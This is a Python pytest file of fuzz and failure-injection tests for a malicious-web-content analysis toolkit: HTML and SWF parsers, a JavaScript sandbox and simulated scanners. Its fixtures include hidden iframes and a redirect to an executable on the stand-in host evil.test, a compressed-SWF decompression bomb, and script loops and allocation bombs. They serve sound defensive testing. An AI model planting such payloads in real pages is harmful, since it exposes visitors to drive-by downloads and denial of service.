"""Failure-injection and fuzz tests.

The crawl encounters adversarial input by construction; the substrates
must degrade, never crash:

* the HTML parser accepts arbitrary bytes-as-text,
* the SWF parser raises SwfError (only) on corrupt containers,
* the scanners return verdicts for garbage submissions,
* the sandbox survives hostile scripts,
* every JS builtin returns a JS value or throws a JS error or
  ``BudgetExceeded``, quickly, in every engine that runs it.
"""

import gc
import random
import struct
import time
import tracemalloc
import zlib

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from repro.detection import QutteraSim, Submission, VirusTotalSim, analyze_content, analyze_html
from repro.flashsim import SwfError, SwfFile, SwfTag, TagCode
from repro.htmlparse import parse, serialize
from repro.jsengine import LexError, ParseError, run_script_in_page
from repro.jsengine.lexer import tokenize
from repro.jsengine.parser import parse as parse_js
from repro.staticjs import analyze_script, interpret_script, propagate

from .test_js_differential import sandbox_page_observation, summary_page_observation
from .test_js_parser import _at_stack_depth


class TestHtmlParserFuzz:
    @given(st.text(max_size=300))
    @settings(max_examples=150, deadline=None)
    def test_parse_never_raises(self, text):
        document = parse(text)
        serialize(document)  # and serialization also holds

    @given(st.binary(max_size=200))
    @settings(max_examples=100, deadline=None)
    def test_parse_decoded_binary(self, data):
        parse(data.decode("utf-8", errors="replace"))

    @pytest.mark.parametrize("nasty", [
        "<" * 100,
        "<div " + "a" * 500,
        "<!--" * 50,
        "<script>" * 30,
        "</" + "x" * 100,
        "<iframe src='" + "%" * 200,
        "\x00\x01\x02<div>\x03</div>",
    ])
    def test_nasty_inputs(self, nasty):
        parse(nasty)


def _title_page(title):
    """A page whose script writes two hidden iframes after ``<title>``."""
    return ("<html><head><title>%s</title></head><body><script>"
            "document.write('<iframe src=\"http://evil.test/a\" width=\"1\" height=\"1\"></iframe>');"
            "document.write('<iframe src=\"http://evil.test/b\" style=\"display:none\"></iframe>');"
            "</script></body></html>" % title)


class TestRawTextEndTags:
    """A raw-text element ends at the first ``</name`` whatever precedes
    it: U+0130 lowercases to two code points, and must not hide the page's
    scripts by shifting the end-tag search."""

    @pytest.mark.parametrize("title", ["I", "\u0130"])
    @pytest.mark.parametrize("static_prefilter", [True, False])
    def test_title_character_hides_no_iframe(self, title, static_prefilter):
        analysis = analyze_html(_title_page(title), static_prefilter=static_prefilter)
        assert analysis.script_count == 1
        assert sorted(f.hidden_by for f in analysis.hidden_iframes) == ["tiny", "visibility"]

    @pytest.mark.parametrize("title", ["I", "\u0130"])
    def test_title_character_stops_no_script(self, title):
        host = run_script_in_page(_title_page(title))
        assert len(host.log.document_writes) == 2

    def test_end_tag_search_is_linear(self):
        # the two sizes alternate, so a stretch of host contention slows
        # both, and each keeps its fastest of fifteen parses; the collector
        # is off while a parse runs (a full collection would also walk
        # every object the test session holds), and each parse's garbage
        # is freed from the youngest generation before the next one
        pages = {pairs: "<script></script>" * pairs for pairs in (8_000, 16_000)}
        best = dict.fromkeys(pages, float("inf"))
        gc.collect()
        gc.disable()
        try:
            for _ in range(15):
                for pairs, page in pages.items():
                    start = time.perf_counter()
                    parse(page)
                    best[pairs] = min(best[pairs], time.perf_counter() - start)
                    gc.collect(0)
        finally:
            gc.enable()
        assert best[16_000] <= 2.5 * best[8_000]


class TestSwfFuzz:
    @given(st.binary(min_size=0, max_size=100))
    @settings(max_examples=100, deadline=None)
    def test_from_bytes_raises_cleanly(self, data):
        try:
            SwfFile.from_bytes(data)
        except SwfError:
            pass  # the only acceptable failure

    def test_bitflip_corruption(self):
        good = SwfFile(compressed=False).to_bytes()
        rng = random.Random(0)
        for _ in range(50):
            corrupted = bytearray(good)
            position = rng.randrange(len(corrupted))
            corrupted[position] ^= 0xFF
            try:
                SwfFile.from_bytes(bytes(corrupted))
            except SwfError:
                pass

    def test_truncations(self):
        good = SwfFile().to_bytes()
        for cut in range(0, len(good), 7):
            try:
                SwfFile.from_bytes(good[:cut])
            except SwfError:
                pass

    @staticmethod
    def _with_action_block(body, compressed=False):
        swf = SwfFile(compressed=compressed)
        swf.tags.append(SwfTag(TagCode.DO_ACTION, body))
        return swf.to_bytes()

    @pytest.mark.parametrize("body", [
        b"",                                    # too short for the op count
        b"\x05\x00\x01",                        # 5 ops declared, header cut
        b"\x01\x00\x07\x01\x01",                # operand length cut
        b"\x01\x00\x07\x01\x05\x00ab",          # operand body cut
        b"\x01\x00\x07\x01\x02\x00\xff\xfe",    # operand not UTF-8
    ])
    @pytest.mark.parametrize("compressed", [False, True])
    def test_corrupted_action_block_is_an_analysis_error(self, body, compressed):
        data = self._with_action_block(body, compressed)
        with pytest.raises(SwfError):
            SwfFile.from_bytes(data).action_programs()
        analysis = analyze_content(data, "application/x-shockwave-flash")
        assert analysis.kind == "flash"
        assert len(analysis.analysis_errors) == 1
        assert "DoAction" in analysis.analysis_errors[0]

    @given(st.binary(max_size=40))
    @settings(max_examples=150, deadline=None)
    def test_any_action_block_analyzes_without_raising(self, body):
        analyze_content(self._with_action_block(body), "application/x-shockwave-flash")

    def test_cws_inflates_no_further_than_its_declared_length(self):
        """A 50 KB CWS file whose header declares 13 bytes but whose body
        inflates to 50 MiB: decoding stops at the declared length."""
        packer = zlib.compressobj(9)
        stream = b"".join(packer.compress(bytes(2**20)) for _ in range(50)) + packer.flush()
        bomb = b"CWS\x0a" + struct.pack("<I", 13) + stream
        assert len(bomb) < 60_000
        tracemalloc.start()
        try:
            started = time.perf_counter()
            swf = SwfFile.from_bytes(bomb)
            analysis = analyze_content(bomb, "application/x-shockwave-flash")
            elapsed = time.perf_counter() - started
            _current, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert (swf.width, swf.height, swf.tags) == (0, 0, [])
        assert analysis.kind == "flash" and not analysis.analysis_errors
        assert peak < 2**20 and elapsed < 1.0

    def test_generated_swf_inflates_to_exactly_its_declared_length(self):
        data = self._with_action_block(b"\x00\x00", compressed=True)
        (declared,) = struct.unpack_from("<I", data, 4)
        assert len(zlib.decompress(data[8:])) == declared - 8
        assert SwfFile.from_bytes(data).action_programs()[0].ops == []

    def test_truncated_cws_stream_is_rejected(self):
        """Bounding the inflate keeps the check that the stream is
        whole: a body cut short of its declared length is an error."""
        data = self._with_action_block(b"\x01\x00\x07\x01\x40\x00" + bytes(range(64)),
                                       compressed=True)
        SwfFile.from_bytes(data)
        for cut in (9, len(data) // 2, len(data) - 6):
            with pytest.raises(SwfError, match="compressed body"):
                SwfFile.from_bytes(data[:cut])


#: JS-significant characters plus digits and spaces beyond ASCII
_JS_CHARS = st.sampled_from(list("\"'\\xu0123456789abcdefXZ+-.e/*(){}[];,=!<> \n\t")
                            + ["\u00b2", "\u0663", "\u00e9", "\xa0", "\u2028"])


class TestJsFrontEndFuzz:
    """The lexer fails only with LexError, the parser only with
    ParseError or LexError, on any input."""

    @given(st.one_of(st.text(max_size=80), st.lists(_JS_CHARS, max_size=80).map("".join)))
    @settings(max_examples=400, deadline=None)
    def test_lexer_raises_only_lex_error(self, text):
        try:
            tokenize(text)
        except LexError:
            pass

    @given(st.lists(_JS_CHARS, max_size=120).map("".join))
    @settings(max_examples=300, deadline=None)
    def test_parser_raises_only_typed_errors(self, text):
        try:
            parse_js(text)
        except (ParseError, LexError):
            pass


class TestSandboxHostility:
    @pytest.mark.parametrize("hostile", [
        "while(true){}",
        "function f(){f();} f();",
        "var s=''; while(true){ s += s + 'x'; }",
        "eval(eval(eval('1')))",
        "for(var i=0;;i++){ document.write('<div>'); }",
        "throw 'unhandled';",
        "null.property;",
        "(function(){ return arguments.callee(); })();",
    ])
    def test_hostile_scripts_contained(self, hostile):
        host = run_script_in_page(
            "<html><body><script>%s</script></body></html>" % hostile,
            step_budget=20_000,
        )
        # the sandbox recorded a failure (or finished); it never raised
        assert isinstance(host.log.errors, list)

    def test_document_write_bomb_bounded(self):
        bomb = "for (var i = 0; i < 100000; i++) { document.write('<iframe></iframe>'); }"
        host = run_script_in_page(
            "<html><body><script>%s</script></body></html>" % bomb,
            step_budget=30_000,
        )
        assert any("budget" in e.lower() for e in host.log.errors)


#: one script per builtin that leaked a Python error or never returned,
#: and the value layer's allocation bombs
HOSTILE_BUILTINS = [
    "var x = 'abc'.charAt('x'); document.write(x);",
    "var x = Math.floor(parseInt('zz')); location.href = 'http://evil.test/a.exe';",
    "document.write(Math.pow(-8, 1/3));",
    "document.write(Math.sqrt(-1));",
    "document.write(parseInt('0', 1));",
    "document.write(Math.round(1/0));",
    "document.write((5).toString(0));",
    "document.write((5).toString(1));",
    "document.write(String.fromCharCode(65, 'x'));",
    "var a = []; a[50000000] = 1; document.write(a.length);",
    "var a = []; a.length = 3000000000; document.write(a.length);",
    "document.write('%s'.split('').join('%s').length);" % ("x" * 40000, "y" * 40000),
    # JSON.stringify of 2,048 references to one 1 MB string, and of an
    # array holding one array twice, 60 levels deep
    "var s = 'xxxxxxxxxx'; while (s.length < 1000000) s += s; var a = [s]; "
    "while (a.length < 2000) a = a.concat(a); document.write(JSON.stringify(a).length);",
    "var a = [1]; for (var i = 0; i < 60; i++) a = [a, a]; document.write(JSON.stringify(a));",
]
_PYTHON_ERRORS = ("ValueError", "OverflowError", "ZeroDivisionError", "MemoryError")


def _page(source):
    return "<html><body><script>%s</script></body></html>" % source


class TestBuiltinBounds:
    @pytest.mark.parametrize("source", HOSTILE_BUILTINS)
    def test_hostile_builtin_calls_are_bounded(self, source):
        for run in (run_script_in_page, analyze_html):
            start = time.perf_counter()
            run(_page(source))
            assert time.perf_counter() - start < 1.0
        for run in (interpret_script, analyze_script, lambda text: propagate(parse_js(text))):
            start = time.perf_counter()
            run(source)
            assert time.perf_counter() - start < 1.0
        errors = run_script_in_page(_page(source)).log.errors
        assert not [error for error in errors if error.startswith(_PYTHON_ERRORS)]
        effects = interpret_script(source)
        assert effects.complete
        assert summary_page_observation(effects) == sandbox_page_observation(source)

    @pytest.mark.parametrize("source, written", [
        ("document.write(Math.pow(-8, 1/3));", "NaN"),
        ("document.write(Math.pow(0, -1) + ' ' + Math.pow(-10, 401));", "Infinity -Infinity"),
        ("document.write(Math.sqrt(-1));", "NaN"),
        ("document.write(parseInt('0', 1) + ' ' + parseInt('z', 37));", "NaN NaN"),
        ("document.write(Math.round(1/0) + ' ' + Math.floor(-1/0) + ' ' + Math.ceil(0/0));",
         "Infinity -Infinity NaN"),
        ("document.write(String.fromCharCode(65, 'x', 1/0) === 'A\\0\\0');", "true"),
        ("document.write('abc'.charAt('x'));", "a"),
        ("document.write((0/0).toString(16) + (1/0).toFixed(2));", "NaNInfinity"),
        ("var a = [1, 'x']; document.write(JSON.stringify([a, {k: a}, 0/0]));",
         '[[1,"x"],{"k":[1,"x"]},null]'),
    ])
    def test_builtin_results_are_js_values(self, source, written):
        assert run_script_in_page(_page(source)).log.document_writes == [written]

    @pytest.mark.parametrize("coercion", [
        "var n = parseInt(a);",
        "var n = location.href.indexOf(a);",
        "var b = (a == 'x');",
        "var b = (a in {});",
        "var o = {}; var v = o[a];",
    ])
    def test_unknown_array_past_the_join_bound_is_not_summarised(self, coercion):
        # the sandbox's join refuses this array's string and ends the
        # script; a summary computing a value would replay the navigation
        source = ("var a = []; a.length = 1999999; a[0] = location.href; %s "
                  "location.href = 'http://evil.test/a.exe';" % coercion)
        assert run_script_in_page(_page(source)).log.navigations == []
        effects = interpret_script(source)
        assert not effects.complete
        assert effects.abort_reason == "string-bound"

    @pytest.mark.parametrize("coercion", [
        "var n = a / 2;",
        "var b = (a < 1);",
        "var n = a - 1 | 0;",
    ])
    def test_unknown_array_past_the_join_bound_numbers_without_a_join(self, coercion):
        # ToNumber of an array of two or more elements is NaN whatever
        # they hold: neither side builds the join, so both navigate
        source = ("var a = []; a.length = 1999999; a[0] = location.href; %s "
                  "location.href = 'http://evil.test/a.exe';" % coercion)
        start = time.perf_counter()
        log = run_script_in_page(_page(source)).log
        assert time.perf_counter() - start < 0.2
        assert (log.navigations, log.errors) == (["http://evil.test/a.exe"], [])
        effects = interpret_script(source)
        assert effects.complete
        assert summary_page_observation(effects) == sandbox_page_observation(source)

    def test_nan_prelude_keeps_the_navigation(self):
        # a Python error from Math.floor(NaN) would end the script before
        # the navigation, in the sandbox and in the replayed summary
        page = _page(HOSTILE_BUILTINS[1])
        assert run_script_in_page(page).log.navigations == ["http://evil.test/a.exe"]
        replayed = analyze_html(page)
        assert replayed.sandbox_skipped
        assert replayed.navigations == ["http://evil.test/a.exe"]

    @pytest.mark.parametrize("source", [
        HOSTILE_BUILTINS[0],
        "var x = String.fromCharCode(6\n7) + '%s';" % ("x" * 50),
    ])
    def test_hostile_literal_pages_scan(self, source):
        # a Python error in the folder (a NaN index) or the peeler (digits
        # split by a line break) would end the page's scan
        analysis = analyze_html(_page(source))
        assert analysis.script_count == 1


class TestCyclicAndSharedArrays:
    """An array that holds itself joins as '' (as browsers do) and makes
    JSON.stringify throw a TypeError; an array holding one subarray many
    times is joined once per conversion, so the string bound stops it
    at once rather than after 2**40 joins.  The string of an array on a
    cycle depends on where the cycle is entered, so it is not reused."""

    @pytest.mark.parametrize("source, writes, error", [
        ("var a = []; a[0] = a; document.write('x' + a);", ["x"], None),
        ("var a = [1, 2]; a.push([a]); document.write(a.join('-') + '|' + (+a));",
         ["1-2-|NaN"], None),
        ("var a = [0, 1]; var b = [0, 2]; a[0] = b; b[0] = a; document.write('' + [a, b]);",
         [",2,1,,1,2"], None),
        ("var a = [0]; a[0] = a; document.write(+a + ' ' + (+[a, 1]));", ["0 NaN"], None),
        ("document.write(+[true] + ' ' + +[undefined] + ' ' + +[-0] + ' ' + "
         "+[[' 12 ']] + ' ' + +[1, 2] + ' ' + +[]);", ["NaN 0 0 12 NaN 0"], None),
        ("var c = [1]; c.push(c); var a = [c]; for (var i = 0; i < 40; i++) a = [a, a]; "
         "document.write('' + a);", [], "BudgetExceeded: string allocation limit"),
        ("var a = []; a[0] = a; try { JSON.stringify(a); } "
         "catch (e) { document.write('caught'); }", ["caught"], None),
        ("var o = {}; o.me = [o]; document.write(JSON.stringify(o));", [], "TypeError"),
        ("var a = [1]; for (var i = 0; i < 40; i++) a = [a, a]; document.write('' + a);",
         [], "BudgetExceeded: string allocation limit"),
    ])
    def test_probe_is_js_and_fast_in_every_engine(self, source, writes, error):
        for run in (lambda: run_script_in_page(_page(source)),
                    lambda: interpret_script(source),
                    lambda: analyze_html(_page(source))):
            start = time.perf_counter()
            run()
            assert time.perf_counter() - start < 0.2
        log = run_script_in_page(_page(source)).log
        assert log.document_writes == writes
        assert [e for e in log.errors if error is None or error not in e] == []
        effects = interpret_script(source)
        assert effects.complete
        assert summary_page_observation(effects) == sandbox_page_observation(source)

    def test_deep_nesting_needs_no_python_frames(self):
        source = ("var a = [1]; for (var i = 0; i < 3000; i++) a = [a]; "
                  "document.write(JSON.stringify(a).length + ('' + a));")
        log = run_script_in_page(_page(source)).log
        assert (log.document_writes, log.errors) == (["60031"], [])


class TestStaticAnalyzerDepth:
    """Member chains thousands of links long are one AST spine; the
    static analyzer must walk them without recursing per link."""

    def test_long_call_chain_is_an_unknown_call(self):
        report = analyze_script("a" + ".b" * 3000 + "();")
        assert "analysis-overflow" not in report.capabilities
        assert "unknown-call" in report.capabilities

    def test_long_chain_keeps_document_write(self):
        report = analyze_script("document" + ".b" * 3000 + ".write(1);")
        assert "analysis-overflow" not in report.capabilities
        assert "document-write" in report.capabilities


def _chain_forms(links):
    """A script per left-deep chain form, each writing one value."""
    return {
        "binary": "var x = 1" + " + 1" * (links - 1) + "; document.write(x);",
        "logical": "var x = 0" + " || 0" * (links - 2) + " || 7; document.write(x);",
        "members": "var a = {}; a.b = a; a.v = 'm'; var x = a" + ".b" * links
                   + ".v; document.write(x);",
        "computed": "var a = {}; a.b = a; a.v = 'c'; var x = a" + "['b']" * links
                    + "['v']; document.write(x);",
        "methods": "var o = {f: function () { return o; }, v: 'o'}; var x = o" + ".f()" * links
                   + ".v; document.write(x);",
        "calls": "function g() { return g; } var x = g" + "()" * links
                 + "; document.write(typeof x);",
    }


_CHAIN_WRITES = {"binary": "3000", "logical": "7", "members": "m", "computed": "c",
                 "methods": "o", "calls": "function"}

#: sandbox steps of short chains, as evaluating each link recursively
#: ticks them: the loop over a chain must tick exactly as often, and the
#: abstract machine counts the same steps
SHORT_CHAIN_STEPS = [
    (_chain_forms(2)["binary"], 8, "2"),
    (_chain_forms(2)["logical"], 8, "7"),
    (_chain_forms(2)["members"], 19, "m"),
    (_chain_forms(2)["computed"], 22, "c"),
    (_chain_forms(2)["methods"], 17, "o"),
    (_chain_forms(2)["calls"], 14, "function"),
    (_chain_forms(10)["binary"], 24, "10"),
    (_chain_forms(10)["logical"], 24, "7"),
    (_chain_forms(10)["members"], 27, "m"),
    (_chain_forms(10)["computed"], 38, "c"),
    (_chain_forms(10)["methods"], 41, "o"),
    (_chain_forms(10)["calls"], 38, "function"),
    ("var o = {a: {b: function (x) { return [x, x + 1]; }}}; "
     "document.write(o.a.b(2)[1] * 3 - 1 && 'y' || 'n');", 26, "y"),
    ("var s = 'abc'; document.write(s.toUpperCase().split('').reverse().join('-').length "
     "+ s.charAt(1));", 17, "5b"),
    ("function f(a) { return function (b) { return a + b; }; } "
     "document.write(f(1)(2) + f('x')('y'));", 27, "3xy"),
    ("var a = [1, 2, 3]; document.write(a.concat([4]).slice(1).map(function (v) "
     "{ return v * 2; }).join(','));", 30, "4,6,8"),
    ("var t = 0 && missing() || 5 && (1 + 2 * 3 - 4 / 2) || x; document.write(t);", 20, "5"),
    ("var q = {}; q['k' + 1] = {z: 9}; document.write(q['k1']['z'] + q.k1.z);", 22, "18"),
    ("var n = null; try { n.a.b; } catch (e) { document.write(e.message || e); }", 16,
     "TypeError: cannot read property 'a' of null"),
    ("document.write(Math.max(1, 2) + String.fromCharCode(72, 105).length "
     "+ parseInt('12', 10));", 18, "16"),
]


def _page_writes(source):
    host = run_script_in_page("<html><body><script>%s</script></body></html>" % source)
    return host.log.document_writes, host.log.errors, host.interpreter.steps


class TestSandboxChainDepth:
    """The parser accepts left-deep chains thousands of links long; the
    sandbox evaluates them without one Python frame per link, so a chain
    never costs a script its effects."""

    @pytest.mark.parametrize("depth", [0, 500])
    @pytest.mark.parametrize("form", sorted(_CHAIN_WRITES))
    def test_long_chain_writes_at_any_caller_depth(self, form, depth):
        source = _chain_forms(3000)[form]
        run = lambda: _page_writes(source)
        writes, errors, _steps = run() if depth == 0 else _at_stack_depth(depth, run)
        assert errors == []
        assert writes == [_CHAIN_WRITES[form]]

    @pytest.mark.parametrize("source,steps,write", SHORT_CHAIN_STEPS)
    def test_short_chains_keep_their_step_counts(self, source, steps, write):
        assert _page_writes(source) == ([write], [], steps)
        effects = interpret_script(source)
        assert effects.complete and effects.steps == steps


class TestScannerGarbage:
    @pytest.fixture(scope="class")
    def scanners(self):
        return VirusTotalSim(), QutteraSim()

    @given(st.binary(max_size=400), st.sampled_from([
        "text/html", "application/javascript", "application/x-shockwave-flash",
        "application/x-msdownload", "application/octet-stream", "image/gif",
    ]))
    @settings(max_examples=60, deadline=None,
              suppress_health_check=[HealthCheck.function_scoped_fixture])
    def test_scan_garbage_never_raises(self, scanners, data, content_type):
        vt, quttera = scanners
        submission = Submission(url="http://fuzz.example/x", content=data,
                                content_type=content_type)
        vt.scan(submission)
        quttera.scan(submission)

    def test_analyze_empty(self):
        analysis = analyze_content(b"", "text/html")
        assert analysis.kind == "html"
        assert not analysis.hidden_iframes

    @pytest.mark.parametrize("static_prefilter", [True, False])
    @pytest.mark.parametrize("script", [
        r'var a = "\xZZ";',      # int(..., 16) raised ValueError
        r'var a = "\uZZZZ";',
        "var a = 1\u00b2;",        # float() raised ValueError
        "(" * 10_000 + "1" + ")" * 10_000,   # a RecursionError before the nesting bound
    ], ids=["bad-x-escape", "bad-u-escape", "superscript-digit", "deep-parens"])
    def test_unlexable_inline_script_still_analyzed(self, script, static_prefilter):
        page = ('<html><body><iframe src="http://x.example/" width=1 height=1>'
                "</iframe><script>%s</script></body></html>" % script)
        analysis = analyze_content(page.encode(), "text/html",
                                   static_prefilter=static_prefilter)
        assert analysis.kind == "html"
        assert analysis.script_count == 1
        assert [f.hidden_by for f in analysis.hidden_iframes] == ["tiny"]

    @pytest.mark.parametrize("static_prefilter", [True, False])
    def test_deeply_nested_page(self, static_prefilter):
        # no DOM walk (iter, iter_nodes, text_content, serialize) may
        # recurse once per nesting level
        page = ("<html><body>" + "<div>" * 5000
                + '<iframe src="http://x.com/" width=1 height=1></iframe>'
                + "</div>" * 5000 + "</body></html>")
        analysis = analyze_html(page, static_prefilter=static_prefilter)
        assert [f.hidden_by for f in analysis.hidden_iframes] == ["tiny"]
        document = parse(page)
        assert serialize(document).count("<div>") == 5000
        assert sum(1 for _node in document.iter_nodes()) == 5005

    def test_scan_huge_flat_page(self, scanners):
        vt, _quttera = scanners
        page = ("<p>word </p>" * 20000).encode()
        report = vt.scan(Submission(url="http://big.example/", content=page))
        assert not report.malicious
